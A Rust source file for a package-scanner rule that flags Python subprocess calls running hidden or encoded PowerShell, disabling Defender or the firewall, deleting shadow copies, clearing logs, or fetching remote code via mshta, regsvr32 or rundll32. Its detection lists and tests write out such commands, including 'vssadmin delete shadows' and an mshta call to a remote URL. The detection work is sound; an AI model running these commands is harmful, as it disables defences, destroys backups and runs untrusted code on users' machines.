use crate::finding::{Finding, Severity};
use crate::python::Call;
use crate::rules::{
    PackageFacts, Rule, RuleMeta, code_finding, declare_rule, program_name, shell_text,
};

declare_rule! {
    /// A command line built to run unseen or to switch off the machine's
    /// defences.
    ///
    /// ## What it finds
    /// Process calls (`subprocess.*`, `os.system`, `os.popen`, …) whose
    /// command line, after constant evaluation:
    /// - starts PowerShell hidden from the user: two or more of an encoded
    ///   command (`-enc`, `-EncodedCommand`), a hidden window (`-w hidden`,
    ///   `-WindowStyle Hidden`, or `creationflags=CREATE_NO_WINDOW`) and an
    ///   execution-policy bypass (`-ep bypass`, `-ExecutionPolicy Bypass`);
    /// - tampers with defences: Microsoft Defender exclusions or switches
    ///   (`Add-MpPreference -ExclusionPath`, `Set-MpPreference -Disable…`),
    ///   turning the firewall off, deleting shadow copies (`vssadmin delete
    ///   shadows`), clearing event logs (`wevtutil cl`), disabling recovery
    ///   (`bcdedit … recoveryenabled no`);
    /// - proxies execution through a system binary that fetches remote
    ///   code (`mshta http…`, `regsvr32 /i:http…`, `rundll32 javascript:`).
    ///
    /// ## Why it matters
    /// Installers and build tools run PowerShell too, but in the open: a
    /// window the user can see, a script they can read. Hiding the window,
    /// encoding the command and bypassing the execution policy together
    /// only make sense when the user must not notice; no library needs to
    /// add Defender exclusions or delete backups.
    ///
    /// Severity: tampering with defences and remote code through a system
    /// binary are critical in any context. Hidden PowerShell is critical at
    /// install, startup or import time and high in code a user calls; one
    /// hiding marker alone is medium when it runs by itself and low
    /// otherwise.
    ///
    /// ## Example
    /// ```python
    /// import subprocess
    /// subprocess.Popen(["powershell", "-NoProfile", "-ExecutionPolicy", "Bypass",
    ///                   "-WindowStyle", "Hidden", "-File", "stage.ps1"])
    /// ```
    ///
    /// ## References
    /// MITRE ATT&CK T1059.001 (PowerShell), T1564.003 (Hidden Window),
    /// T1562.001 (Impair Defenses: Disable or Modify Tools), T1490 (Inhibit
    /// System Recovery), T1218 (System Binary Proxy Execution).
    pub struct HiddenCommand {
        id: "AY106",
        slug: "hidden-command",
        category: Execution,
        severity: Critical,
    }
}

impl Rule for HiddenCommand {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, facts: &PackageFacts<'_>, out: &mut Vec<Finding>) {
        for file in facts.python {
            for call in file.calls.iter().filter(|c| c.is_process()) {
                let Some(cmd) = shell_text(call) else {
                    continue;
                };
                let Some((what, weight)) = judge(&cmd, no_window(call)) else {
                    continue;
                };
                let mut f = code_finding(
                    &Self::META,
                    file,
                    call,
                    format!("`{}` {what} {}", call.name, call.context.describe()),
                );
                f.severity = match (weight, call.context.is_automatic()) {
                    (Weight::Conclusive, _) | (Weight::Strong, true) => Severity::Critical,
                    (Weight::Strong, false) => Severity::High,
                    (Weight::Weak, true) => Severity::Medium,
                    (Weight::Weak, false) => Severity::Low,
                };
                f.decoded = Some(crate::rules::preview(&cmd));
                out.push(f);
            }
        }
    }
}

/// `creationflags=CREATE_NO_WINDOW` (or `DETACHED_PROCESS`): no console.
fn no_window(call: &Call) -> bool {
    call.keyword("creationflags").is_some_and(|v| {
        v.origin.as_ref().is_some_and(|o| {
            o.last_name()
                .is_some_and(|n| n.ends_with("CREATE_NO_WINDOW") || n.ends_with("DETACHED_PROCESS"))
        }) || v.printed().is_some_and(|t| t == "134217728" || t == "8")
    })
}

/// What a command line hides, and whether that alone is conclusive.
fn judge(cmd: &str, no_window: bool) -> Option<(&'static str, Weight)> {
    let lower = cmd.to_ascii_lowercase();
    const TAMPERING: &[(&str, &str)] = &[
        ("add-mppreference", "adds Microsoft Defender exclusions"),
        ("set-mppreference", "changes Microsoft Defender settings"),
        ("advfirewall set", "turns the firewall off"),
        ("firewall set opmode disable", "turns the firewall off"),
        ("delete shadows", "deletes shadow copies"),
        ("shadowcopy delete", "deletes shadow copies"),
        ("wevtutil cl", "clears event logs"),
        ("recoveryenabled no", "disables system recovery"),
    ];
    if let Some((_, what)) = TAMPERING.iter().find(|(m, _)| lower.contains(m)) {
        return Some((what, Weight::Conclusive));
    }
    let words: Vec<&str> = lower.split_whitespace().collect();
    for pair in words.windows(2) {
        let (p, arg) = (program_name(pair[0]), pair[1]);
        let remote = arg.contains("http:") || arg.contains("https:") || arg.contains("javascript:");
        if remote && matches!(p, "mshta" | "regsvr32" | "rundll32") {
            return Some((
                "runs remote code through a Windows system binary",
                Weight::Conclusive,
            ));
        }
    }
    if !words
        .iter()
        .any(|w| matches!(program_name(w), "powershell" | "pwsh"))
    {
        return None;
    }
    let flag = |names: &[&str]| words.iter().position(|w| names.contains(w));
    let encoded = flag(&["-enc", "-encodedcommand", "-e", "-ec"]).is_some();
    let hidden = no_window
        || flag(&["-w", "-windowstyle", "-win"])
            .and_then(|at| words.get(at + 1))
            .is_some_and(|v| v.trim_matches(['"', '\'']) == "hidden");
    let bypass = flag(&["-ep", "-executionpolicy", "-exec"])
        .and_then(|at| words.get(at + 1))
        .is_some_and(|v| v.trim_matches(['"', '\'']) == "bypass");
    let markers = [encoded, hidden, bypass].iter().filter(|m| **m).count();
    let what = match (encoded, hidden) {
        (true, true) => "runs an encoded PowerShell command in a hidden window",
        (true, false) => "runs an encoded PowerShell command",
        (false, true) => "runs PowerShell in a hidden window",
        (false, false) => "runs PowerShell with its execution policy bypassed",
    };
    let weight = if markers >= 2 {
        Weight::Strong
    } else {
        Weight::Weak
    };
    (markers > 0).then_some((what, weight))
}

/// How much a hidden command says on its own.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Weight {
    /// Tampering with defences or proxying remote code through a system
    /// binary: no library does either, whoever calls it.
    Conclusive,
    /// PowerShell with two hiding markers.
    Strong,
    /// One hiding marker.
    Weak,
}

#[cfg(test)]
mod tests {
    use super::{Weight, judge};

    #[test]
    fn hidden_powershell_needs_two_markers() {
        let cmd =
            "powershell.exe -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -File x.ps1";
        assert_eq!(judge(cmd, false).map(|j| j.1), Some(Weight::Strong));
        let cmd = "powershell -ExecutionPolicy Bypass -File build.ps1";
        assert_eq!(judge(cmd, false).map(|j| j.1), Some(Weight::Weak));
        assert_eq!(judge(cmd, true).map(|j| j.1), Some(Weight::Strong));
        assert_eq!(
            judge("powershell -enc SQBFAFgA -w hidden", false).map(|j| j.1),
            Some(Weight::Strong)
        );
        assert_eq!(judge("powershell Get-ChildItem", false), None);
        assert_eq!(judge("echo -w hidden", false), None);
    }

    #[test]
    fn defence_tampering_and_proxy_execution() {
        let cmd = "powershell Add-MpPreference -ExclusionPath C:\\Users";
        assert_eq!(judge(cmd, false).map(|j| j.1), Some(Weight::Conclusive));
        assert!(judge("vssadmin delete shadows /all /quiet", false).is_some());
        assert!(judge("mshta https://203.0.113.7/a.hta", false).is_some());
        assert!(judge("mshta.exe local.hta", false).is_none());
        assert!(judge("regsvr32 /s mylib.dll", false).is_none());
    }
}
